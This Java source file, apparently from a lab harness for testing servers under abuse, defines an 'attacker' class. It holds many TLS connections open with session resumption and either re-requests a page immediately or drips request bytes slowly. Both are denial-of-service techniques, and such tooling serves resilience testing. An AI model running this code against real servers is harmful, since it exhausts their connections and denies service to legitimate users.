package io.headwaiter.lab.abuse;

import io.headwaiter.load.TlsMemory;
import io.netty.buffer.Unpooled;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

/**
 * A few visits, each with some connections that are kept alive. They ask for the next page as soon
 * as they have one, or begin a request and send its rest byte by byte. A connection that is ended
 * is replaced.
 */
public final class Hog implements Attacker {
  private static final int TICKETS_MAX = 8;
  private static final long AGAIN_MILLIS = 100;
  private static final long BYTE_MILLIS = 300;

  private final int connectionsEach;
  private final String page;
  // Null if the connections ask for pages.
  private String beginning;
  private boolean areNew;
  private final TlsCrowd crowd;
  private final List<TlsMemory> visits = new ArrayList<>();

  /** Sends nothing yet. */
  public Hog(Target target, int visits, int connectionsEach, String page, String networks)
      throws IOException {
    this.connectionsEach = connectionsEach;
    this.page = page;
    this.crowd = new TlsCrowd(target, List.of(), networks);
    for (int i = 0; i < visits; i++) {
      this.visits.add(TlsMemory.thrifty(TICKETS_MAX));
    }
  }

  /**
   * Lets the connections begin a request and send a byte of its rest every {@value #BYTE_MILLIS}
   * ms, instead of asking for the page.
   *
   * @param head the beginning of the request, in ASCII
   */
  public Hog dripping(String head) {
    beginning = head;
    return this;
  }

  /** Lets the visits begin with the attack, each connection with a full handshake. */
  public Hog unannounced() {
    areNew = true;
    return this;
  }

  @Override
  public void prepare() throws IOException, InterruptedException {
    if (areNew) {
      return;
    }
    for (TlsMemory visit : visits) {
      crowd.visit(visit, page);
    }
  }

  @Override
  public Tally run(Duration duration) throws IOException, InterruptedException {
    return crowd.run(
        duration,
        () -> {
          for (TlsMemory visit : visits) {
            for (int i = 0; i < connectionsEach; i++) {
              new Asking(visit).come();
            }
          }
        });
  }

  @Override
  public void close() {
    crowd.close();
  }

  private final class Asking implements TlsLink.Script {
    private final TlsMemory visit;

    Asking(TlsMemory visit) {
      this.visit = visit;
    }

    /** Resumes, once there is a session: a server may give one a connection only. */
    void come() {
      if (areNew) {
        crowd.connect(/* memory= */ null, this);
      } else if (!crowd.resume(visit, this)) {
        crowd.later(AGAIN_MILLIS, this::come);
      }
    }

    @Override
    public void entered(TlsLink link) {
      if (beginning == null) {
        link.ask(page);
      } else {
        send(link, beginning);
      }
    }

    /** Sends this, and later another byte. */
    private void send(TlsLink link, String text) {
      if (link.open()) {
        link.send(Unpooled.copiedBuffer(text, StandardCharsets.US_ASCII));
        crowd.later(BYTE_MILLIS, () -> send(link, "x"));
      }
    }

    @Override
    public void replied(TlsLink link) {
      link.ask(page);
    }

    @Override
    public void gone(TlsLink link) {
      crowd.later(AGAIN_MILLIS, this::come);
    }
  }
}
